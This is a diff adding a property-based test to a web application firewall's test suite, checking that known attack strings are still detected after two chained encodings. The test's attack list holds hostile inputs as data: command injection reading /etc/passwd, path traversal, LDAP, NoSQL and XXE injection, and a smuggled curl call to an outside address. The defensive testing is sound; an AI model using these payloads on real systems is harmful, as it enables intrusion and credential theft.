@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 
 import { inspectKey, inspectValue } from '../../../src/validation/waf/engine.js';
@@ -98,6 +99,42 @@ describe('inspectValue', () => {
     'https://shop.example.org/p/12345?utm_source=newsletter&utm_medium=email',
   ])('does not block %j at paranoia 1', (value) => {
     expect(total(inspectValue(value, { paranoia: 1 }))).toBeLessThan(5);
+  });
+});
+
+describe('inspectValue under encodings', () => {
+  const attacks = [
+    '; cat /etc/passwd',
+    '../../../../etc/shadow',
+    '*)(uid=*))(|(uid=*',
+    '{"$gt": ""}',
+    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+    '`curl http://198.51.100.7/x`',
+  ];
+  const encoders: ReadonlyArray<(value: string) => string> = [
+    (value) => encodeURIComponent(value),
+    (value) => encodeURIComponent(encodeURIComponent(value)),
+    (value) => [...value].map((ch) => `&#${ch.codePointAt(0)};`).join(''),
+    (value) =>
+      [...value].map((ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
+    (value) =>
+      encodeURIComponent([...value].map((ch) => `&#x${ch.charCodeAt(0).toString(16)}`).join('')),
+  ];
+
+  it('detects known attacks through any chain of two encodings', () => {
+    fc.assert(
+      fc.property(
+        fc.constantFrom(...attacks),
+        fc.constantFrom(...encoders),
+        fc.constantFrom(...encoders),
+        (attack, first, second) => {
+          expect(
+            total(inspectValue(second(first(attack)), { paranoia: 1 })),
+          ).toBeGreaterThanOrEqual(5);
+        },
+      ),
+      { numRuns: 150 },
+    );
   });
 });
 
